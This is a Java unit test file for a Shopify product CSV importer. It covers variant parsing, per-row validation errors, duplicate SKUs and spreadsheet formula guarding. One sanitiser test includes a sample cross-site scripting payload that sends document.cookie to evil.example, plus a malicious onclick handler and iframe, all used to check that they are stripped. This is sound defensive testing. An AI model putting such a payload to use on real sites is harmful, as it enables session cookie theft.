package io.aisle.productcsv;

import static org.assertj.core.api.Assertions.assertThat;

import io.aisle.productcsv.internal.CsvProduct;
import io.aisle.productcsv.internal.Descriptions;
import io.aisle.productcsv.internal.ShopifyCsvReader;
import io.aisle.productcsv.internal.SpreadsheetText;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;

class ShopifyCsvReaderTests {

    @Test
    void readsTheRowsOfOneHandleAsOneProductWithItsVariantsFromAQuotedMultiLineFile() {
        ShopifyCsvReader.Parsed parsed = ShopifyCsvReader.read(new StringReader(ShopifyCsvFiles.tees("t", 2)));

        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.rows()).isEqualTo(6);
        assertThat(parsed.products()).extracting(CsvProduct::handle).containsExactly("t-tee-1", "t-tee-2");
        CsvProduct first = parsed.products().get(0);
        assertThat(first.title()).isEqualTo("Tee 1 t");
        assertThat(first.vendor()).isEqualTo("Acme Apparel");
        assertThat(first.category()).isEqualTo("Clothing");
        assertThat(first.status()).isEqualTo("ACTIVE");
        assertThat(first.optionNames()).containsExactly("Size", "Color");
        assertThat(first.description()).isEqualTo("Soft cotton, \"heavy\" weight\n\nWash cold\nHang dry");
        assertThat(first.variants()).extracting(CsvProduct.Variant::sku).containsExactly("T-1-S", "T-1-M", "T-1-L");
        assertThat(first.variants().get(2).options()).containsExactly("L", "Blue");
        assertThat(first.variants().get(2).compareAtPrice()).isEqualByComparingTo("24.99");
        assertThat(first.variants().get(1).grams()).isEqualTo(160);
        assertThat(first.variants()).extracting(CsvProduct.Variant::row).containsExactly(2L, 3L, 4L);
    }

    @Test
    void reportsEveryErrorWithItsRowAndColumnAndReadsNoProduct() {
        String csv = ShopifyCsvFiles.HEADER + "\r\n"
                + ShopifyCsvFiles.row("e", 1, 0).replace("19.99", "cheap") + "\r\n"
                + ShopifyCsvFiles.row("e", 1, 1).replace(",M,", ",,") + "\r\n"
                + ShopifyCsvFiles.row("e", 2, 0).replace("E-2-S", "E-1-S").replace("active", "sold") + "\r\n";

        ShopifyCsvReader.Parsed parsed = ShopifyCsvReader.read(new StringReader(csv));

        assertThat(parsed.products()).isEmpty();
        assertThat(parsed.errors()).containsExactlyInAnyOrder(
                new RowError(2, "Variant Price", "must be a number such as 19.99, not \"cheap\""),
                new RowError(3, "Option1 Value", "is required: the product has the option Size"),
                new RowError(4, "Status", "must be active, draft or archived, not \"sold\""));
    }

    @Test
    void aSkuUsedTwiceInTheFileIsAnErrorAtItsSecondRow() {
        String csv = ShopifyCsvFiles.HEADER + "\r\n" + ShopifyCsvFiles.row("d", 1, 0) + "\r\n"
                + ShopifyCsvFiles.row("d", 2, 0).replace("D-2-S", "D-1-S") + "\r\n";

        assertThat(ShopifyCsvReader.read(new StringReader(csv)).errors())
                .containsExactly(new RowError(3, "Variant SKU", "SKU D-1-S is already used in row 2"));
    }

    @Test
    void aFileWithoutAHandleColumnIsRefusedAsAWhole() {
        ShopifyCsvReader.Parsed parsed = ShopifyCsvReader.read(new StringReader("sku,name\nA,B\n"));

        assertThat(parsed.errors()).extracting(RowError::column).containsExactly("Handle", "Title");
    }

    @Test
    void aProductWithoutOptionsIsOneDefaultVariantAndGetsASkuFromItsHandleWhenItHasNone() {
        String csv = "Handle,Title,Body (HTML),Vendor,Type,Option1 Name,Option1 Value,Variant SKU,Variant Price\n"
                + "plain-mug,Plain Mug,,Mugco,Kitchen,Title,Default Title,,12.50\n";

        CsvProduct mug = ShopifyCsvReader.read(new StringReader(csv)).products().get(0);

        assertThat(mug.optionNames()).isEmpty();
        assertThat(mug.description()).isEqualTo("Plain Mug");
        assertThat(mug.variants()).singleElement().satisfies(v -> {
            assertThat(v.sku()).isEqualTo("plain-mug");
            assertThat(v.options()).isEmpty();
            assertThat(v.price()).isEqualByComparingTo(new BigDecimal("12.50"));
        });
    }

    @Test
    void aDescriptionKeepsTheTextOfTheHtmlAndDropsScriptsStylesAndEveryTag() {
        String text = Descriptions.toText("<h2>Fit</h2><p onclick=\"steal()\">True &amp; <i>slim</i></p>"
                + "<script>document.location='https://evil.example/'+document.cookie</script><style>p{}</style>"
                + "<ul><li>cotton</li><li>linen</li></ul><iframe src=\"https://evil.example\">x</iframe>");

        assertThat(text).isEqualTo("Fit\n\nTrue & slim\n\ncotton\n\nlinen");
        assertThat(Descriptions.toText(Descriptions.toHtml(text))).isEqualTo(text);
        assertThat(Descriptions.toHtml("a < b\nline two\n\nnext")).isEqualTo("<p>a &lt; b<br>line two</p><p>next</p>");
    }

    @Test
    void textThatASpreadsheetWouldRunIsGuardedOnExportAndUnguardedOnImport() {
        for (String text : List.of("=HYPERLINK(\"x\")", "+1", "-sale", "@home", "'=quoted", "''", "'Til Dawn", "plain")) {
            assertThat(SpreadsheetText.read(SpreadsheetText.write(text))).as(text).isEqualTo(text);
        }
        assertThat(SpreadsheetText.write("=1+1")).isEqualTo("'=1+1");
        assertThat(SpreadsheetText.write("'Til Dawn")).isEqualTo("'Til Dawn");
    }
}
